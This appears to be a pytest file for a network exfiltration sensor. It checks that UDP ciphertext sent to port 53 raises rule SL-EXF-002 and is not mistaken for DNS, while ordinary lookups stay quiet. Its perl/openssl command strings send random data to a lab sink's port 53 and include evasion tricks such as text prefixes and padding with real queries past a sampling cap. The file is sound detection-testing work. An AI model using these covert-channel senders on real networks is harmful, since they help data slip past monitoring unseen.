"""Ciphertext to an intruder's own port 53.

Egress to port 53 is allowed where little else is. Everything sent there
was counted as DNS framing without a look at it (header bytes, never
opaque), and SL-EXF-002 skipped UDP 53 by its port: 3 MB of ciphertext in
datagrams to the sink's port 53 raised nothing. Only DNS queries are DNS
now; the rest is judged by its bytes. And a packet to port 53 was read
once, its first 256 bytes, the rest taking their class: 256 bytes of text
in front of each big datagram hid the rest. A packet too long to be a
query is now sampled like any other (the second read inside it). Beside it, a container that resolves
names against the same server raises no SL-EXF-002."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest

from emulation.lab import wait_until
from tests.privileged.harness import SINK_IP, Docker, SensorProc, SinkNet, cid_of, run_container

UPLOAD = 3_000_000
# perl (in the test image): datagrams of 1,200 random bytes, paced so the
# sink's DNS server keeps up
SEND = (
    "openssl rand {n} > /tmp/ct && perl -MIO::Socket::INET -e '"
    'my $s = IO::Socket::INET->new(PeerAddr => "{ip}", PeerPort => 53, Proto => "udp") or die "socket: $!";'
    'open(my $f, "<", "/tmp/ct") or die; binmode $f; my $b;'
    'while (read($f, $b, {size})) {{ $s->send(("x" x {text}) . $b); select(undef, undef, undef, 0.0005) }}\''
)
# (ciphertext bytes per datagram, cleartext in front of them): datagrams of
# ciphertext; and big ones whose first 256 bytes are text, the whole of
# what the kernel read of a packet to port 53 before (the rest took the
# class of what was read)
SHAPES = [(1200, 0), (7936, 256)]


def _summary_of(d: dict[str, Any], cid: str) -> bool:
    return d["event"]["action"] == "flow_summary" and cid_of(d) == cid and d["destination"]["port"] == 53


def _encrypted_once_summarised(s: SensorProc, cid: str, n: int, timeout: float) -> int:
    """The encrypted bytes of `cid`'s flow summaries to port 53, once they
    hold `n` payload bytes."""
    deadline = time.monotonic() + timeout
    while sum(d["sluice"]["payload"]["bytes"] for d in s.docs() if _summary_of(d, cid)) < n:
        assert time.monotonic() < deadline, "the upload's windows were not all summarised"
        time.sleep(0.2)
    return sum(d["sluice"]["payload"]["encrypted_bytes"] for d in s.docs() if _summary_of(d, cid))


def _ten_second_windows(base: Path, docker: Docker, name: str) -> SensorProc:
    """A started sensor whose windows last 10 s (a send fits in one)."""
    s = SensorProc(base, docker.sock, name=name)
    s.config.write_text(s.config.read_text().replace("window_seconds = 1.0", "window_seconds = 10.0"))
    s.start()
    return s


def _window_closed(s: SensorProc) -> None:
    """Returns right after a window closed: what is sent now falls in one."""

    def last_end() -> float:
        return float(json.loads(s.status("--json").stdout)["last_window_end"] or 0)

    e0 = last_end()
    assert wait_until(lambda: last_end() != e0, 15), "no window closed"


def _exf2(d: dict[str, Any], cid: str) -> bool:
    return d["event"]["kind"] == "alert" and d.get("rule", {}).get("id") == "SL-EXF-002" and cid_of(d) == cid


@pytest.mark.parametrize(("size", "text"), SHAPES)
def test_ciphertext_datagrams_to_port_53_are_raw(
    base: Path, docker: Docker, net: SinkNet, size: int, text: int
) -> None:
    s = SensorProc(base, docker.sock, name=f"dnsraw{text}")
    s.start()
    try:
        lookups = run_container(
            docker,
            net,
            "for i in 1 2 3 4 5 6 7 8 9 10; do nslookup host$i.example.test " + SINK_IP + " >/dev/null 2>&1; done",
            wait=True,
        )
        raw = run_container(docker, net, SEND.format(n=UPLOAD, ip=SINK_IP, size=size, text=text), wait=True)
        a = s.wait_for(lambda d: _exf2(d, raw), what="SL-EXF-002 for ciphertext to port 53", timeout=20)
        ev = a["sluice"]["evidence"]
        assert ev["kind"] == "raw_encrypted_datagrams" and ev["protocol_hint"] is None, ev
        assert ev["bytes"] > 0, ev  # the window that crossed the rule's threshold (the totals below)
        assert a["destination"]["port"] == 53 and a["network"]["transport"] == "udp"
        # over the windows the upload spanned, nearly all of it counted encrypted
        deadline = time.monotonic() + 15
        while sum(d["source"]["bytes"] for d in s.docs() if _summary_of(d, raw)) < UPLOAD:
            assert time.monotonic() < deadline, "the upload's windows were not all summarised"
            time.sleep(0.2)
        enc = sum(d["sluice"]["payload"]["encrypted_bytes"] for d in s.docs() if _summary_of(d, raw))
        assert enc >= 0.85 * UPLOAD, enc
        # the datagrams reached the sink: the kernel let them out, the alert is the answer
        got = sum(r["bytes"] for r in net.received() if r.get("proto") == "udp" and r.get("port") == 53)
        assert got >= UPLOAD + UPLOAD // size * text, got
        # the real lookups: DNS, no SL-EXF-002
        flows = [
            d
            for d in s.docs()
            if d["event"]["action"] == "flow_summary" and cid_of(d) == lookups and d["destination"]["port"] == 53
        ]
        assert flows, "no flow summary for the lookups"
        assert {f["network"].get("protocol") for f in flows} == {"dns"}, [f["network"] for f in flows]
        assert not [d for d in s.docs() if _exf2(d, lookups)]
    finally:
        assert s.stop() == 0, s.stderr_text()


# a real A query for www.example.test with id $i, as perl builds it
PERL_QUERY = 'pack("n6", $i, 0x0100, 1, 0, 0, 0) . "\\003www\\007example\\004test\\000" . pack("n2", 1, 1)'

# 300 real queries (past the flow's DNS cap of 256 samples a window), then
# 250-byte datagrams of ciphertext, from one socket
QUERIES_THEN_CIPHERTEXT = (
    "openssl rand {n} > /tmp/ct && perl -MIO::Socket::INET -e '"
    'my $s = IO::Socket::INET->new(PeerAddr => "{ip}", PeerPort => 53, Proto => "udp") or die "socket: $!";'
    "for my $i (1 .. 300) {{"
    "  $s->send(" + PERL_QUERY + ") }}"
    'open(my $f, "<", "/tmp/ct") or die; binmode $f; my $b;'
    "while (read($f, $b, 250)) {{ $s->send($b); select(undef, undef, undef, 0.0002) }}'"
)


def test_ciphertext_after_the_dns_cap_is_read(base: Path, docker: Docker, net: SinkNet) -> None:
    """Every packet to port 53 short enough to be a query was sampled as
    one, up to 256 a window, and the rest of the window's were not read at
    all: 256 real queries, then small datagrams of ciphertext, and the
    window was judged by the queries (review: 3 MB, 0 counted). Past the
    cap they are sampled like any packet. Windows of 10 s, the sending
    started right after one closed: queries and ciphertext in one window."""
    s = _ten_second_windows(base, docker, "dnscap")
    try:
        n = 1_000_000
        _window_closed(s)
        raw = run_container(docker, net, QUERIES_THEN_CIPHERTEXT.format(n=n, ip=SINK_IP), wait=True)
        enc = _encrypted_once_summarised(s, raw, n, timeout=25)
        assert enc >= 0.7 * n, enc
    finally:
        assert s.stop() == 0, s.stderr_text()


# a real query, then 28 datagrams of 1,400 bytes of ciphertext, over and over
QUERY_EVERY_28 = (
    "openssl rand {n} > /tmp/ct && perl -MIO::Socket::INET -e '"
    'my $s = IO::Socket::INET->new(PeerAddr => "{ip}", PeerPort => 53, Proto => "udp") or die "socket: $!";'
    'open(my $f, "<", "/tmp/ct") or die; binmode $f; my ($b, $i) = ("", 0);'
    "while (read($f, $b, 1400)) {{"
    "  $s->send(" + PERL_QUERY + ")"
    "    if $i++ % 28 == 0;"
    "  $s->send($b); select(undef, undef, undef, 0.0002) }}'"
)


def test_queries_between_ciphertext_do_not_stand_for_it(base: Path, docker: Docker, net: SinkNet) -> None:
    """Every DNS query was a sample point standing for the bytes since the
    last one, judged as DNS: a real query after every 28 datagrams of
    ciphertext to port 53 made the ciphertext's weight the queries' (a
    model of the kernel's pacing: 0.4 % of the weight; review). A query
    sampled for itself now stands for its own bytes only."""
    s = SensorProc(base, docker.sock, name="dnsbetween")
    s.start()
    try:
        n = 2_000_000
        raw = run_container(docker, net, QUERY_EVERY_28.format(n=n, ip=SINK_IP), wait=True)
        enc = _encrypted_once_summarised(s, raw, n, timeout=15)
        assert enc >= 0.7 * n, enc
    finally:
        assert s.stop() == 0, s.stderr_text()


# 600 real queries, each from a socket of its own (a resolver that opens a
# socket per lookup, or a sender that wants every datagram sampled)
QUERIES_FRESH_SOCKETS = (
    "perl -MIO::Socket::INET -e '"
    "for my $i (1 .. {n}) {{"
    '  my $s = IO::Socket::INET->new(PeerAddr => "{ip}", PeerPort => 53, Proto => "udp") or die "socket: $!";'
    "  $s->send(" + PERL_QUERY + ");"
    "  close $s }}'"
)


def test_fresh_sockets_past_the_dns_cap_are_capped(base: Path, docker: Docker, net: SinkNet) -> None:
    """A socket's first packets are sampled apart from the flow's cap, and
    a query under the DNS cap; past the DNS cap a fresh socket's query-sized
    packet went uncapped (its socket's start): a socket per datagram and
    every one of them was sampled, all within the cgroup's event quota.
    Past the DNS cap it goes under the flow's cap (32): 600 queries from 600
    sockets in one 10-s window give 256 + 32 samples, not 600."""
    s = _ten_second_windows(base, docker, "dnsfresh")
    try:
        n = 600
        _window_closed(s)
        cid = run_container(docker, net, QUERIES_FRESH_SOCKETS.format(n=n, ip=SINK_IP), wait=True)
        deadline = time.monotonic() + 25
        while (got := sum(d["source"]["packets"] for d in s.docs() if _summary_of(d, cid))) < n:
            assert time.monotonic() < deadline, f"{got} of {n} queries summarised"
            time.sleep(0.2)
        flows = [d for d in s.docs() if _summary_of(d, cid)]
        assert len(flows) == 1, "the queries spanned two windows"
        samples = flows[0]["sluice"]["payload"]["samples"]
        assert 256 <= samples <= 256 + 32 + 8, samples
        assert flows[0]["network"].get("protocol") == "dns", flows[0]["network"]
    finally:
        assert s.stop() == 0, s.stderr_text()
